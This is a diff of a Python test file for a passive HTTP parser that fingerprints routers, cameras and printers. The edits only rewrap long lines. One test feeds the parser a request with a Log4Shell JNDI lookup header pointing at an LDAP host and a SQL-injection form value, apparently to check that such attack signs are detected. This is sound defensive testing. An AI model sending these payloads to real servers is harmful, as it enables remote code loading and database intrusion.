@@ -85,9 +85,11 @@ def test_description_of_a_gateway() -> None:
     assert head[0] == [("HttpResponse", 200, server, "text/xml", 598, (), "", "", "GET", "/igddesc.xml", False)]
     assert head[1] == [(*gateway, "http.server", server), (*gateway, "http.path", "/igddesc.xml")]
     found = (
-        ("upnp.device_type", "urn:schemas-upnp-org:device:InternetGatewayDevice:1"), ("upnp.friendly_name", "Gateway & more"),
+        ("upnp.device_type", "urn:schemas-upnp-org:device:InternetGatewayDevice:1"),
+        ("upnp.friendly_name", "Gateway & more"),
         ("upnp.manufacturer", "AVM Berlin"),
-        ("upnp.model_name", "FRITZ!Box 7590"), ("upnp.model_number", "avm"), ("upnp.udn", "uuid:75802409-bccb-40e7-8e6c-02005e005301"),
+        ("upnp.model_name", "FRITZ!Box 7590"), ("upnp.model_number", "avm"),
+        ("upnp.udn", "uuid:75802409-bccb-40e7-8e6c-02005e005301"),
         ("upnp.instance", "Gateway & more"),
     )  # fmt: skip
     assert body == ([("HttpDescription", "upnp", found)], [(*gateway, *fact) for fact in found])
@@ -158,7 +160,8 @@ def test_camera_behind_a_password() -> None:
     assert parsed[6][0][0][5:7] == ("basic", "viewer")
     assert [fact[2:] for fact in parsed[7][1]] == [("http.path", "/ISAPI/System/deviceInfo")]
     assert [fact[2:] for fact in parsed[9][1]] == [
-        ("http.server", "gSOAP/2.8"), ("http.path", "/onvif/device_service"), ("onvif.manufacturer", "HIKVISION"), ("onvif.model", "DS-2CD2143G2-I"),
+        ("http.server", "gSOAP/2.8"), ("http.path", "/onvif/device_service"), ("onvif.manufacturer", "HIKVISION"),
+        ("onvif.model", "DS-2CD2143G2-I"),
         ("onvif.firmware", "V5.7.3 build 220112"), ("onvif.serial", "DS-2CD2143G2-I20220112AAWRJ00000001"),
     ]  # fmt: skip
     assert "not-told" not in repr(sample())
@@ -168,11 +171,13 @@ def test_metadata_and_home_network_administration() -> None:
     """DPWS metadata, the name of a computer in it, and HNAP."""
     parsed = sample()[15:19]
     assert [fact[2:] for fact in parsed[1][1]][1:] == [
-        ("wsd.friendly_name", "Brother HL-L5100DN series"), ("wsd.firmware", "1.47"), ("wsd.serial", "E75555A0N000001"), ("wsd.manufacturer", "Brother"),
+        ("wsd.friendly_name", "Brother HL-L5100DN series"), ("wsd.firmware", "1.47"),
+        ("wsd.serial", "E75555A0N000001"), ("wsd.manufacturer", "Brother"),
         ("wsd.model_name", "HL-L5100DN series"), ("wsd.hostname", "FRONT-DESK"), ("wsd.workgroup", "OFFICE"),
     ]  # fmt: skip
     assert [fact[2:] for fact in parsed[3][1]] == [
-        ("http.path", "/HNAP1/"), ("http.device_name", "attic"), ("http.device_vendor", "D-Link"), ("http.device_model", "DIR-868L"),
+        ("http.path", "/HNAP1/"), ("http.device_name", "attic"), ("http.device_vendor", "D-Link"),
+        ("http.device_model", "DIR-868L"),
         ("http.device_firmware", "1.12"),
     ]  # fmt: skip
 
@@ -424,7 +429,10 @@ def test_gap_inside_a_body() -> None:
     """Missing bytes of a body do not matter; what was there is judged, and the next message is put to its request."""
     stream = Http().stream(CLIENT)
     feed(stream, GET, True)
-    head = b"HTTP/1.1 200 OK\r\nContent-Type: text/xml\r\nContent-Length: 5000\r\n\r\n<root><device><modelName>M</modelName><serialNumber>1"
+    head = (
+        b"HTTP/1.1 200 OK\r\nContent-Type: text/xml\r\nContent-Length: "
+        b"5000\r\n\r\n<root><device><modelName>M</modelName><serialNumber>1"
+    )
     assert values(feed(stream, head)) == []
     rest = 5000 - (len(head) - head.index(b"<root>"))
     assert values(list(stream.gap(SERVER, rest, False))) == [("upnp.model_name", "M")]
@@ -530,7 +538,10 @@ def test_shapes_instead_of_secrets() -> None:
     """Cookies and bodies are told by kind and length; what stands in them only where it holds the signs of commands and
     queries.
     """
-    head = b"POST /a?id=1 HTTP/1.1\r\nHost: cam\r\nCookie: session=t05mP2IPW8aKUwELvQCHJfccq1o=; lang=en\r\nX-Api-Version: ${jndi:ldap://10.0.0.9/a}\r\n"
+    head = (
+        b"POST /a?id=1 HTTP/1.1\r\nHost: cam\r\nCookie: session=t05mP2IPW8aKUwELvQCHJfccq1o=; "
+        b"lang=en\r\nX-Api-Version: ${jndi:ldap://10.0.0.9/a}\r\n"
+    )
     body = b"a=6b3d6b23\x26page=1%27+or+1%3D1\x26password=%24%7Bnot-told%7D"
     head += b"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n\r\n" % len(body)
     asked, sent, login = events(feed(Http().stream(CLIENT), head + body, True))
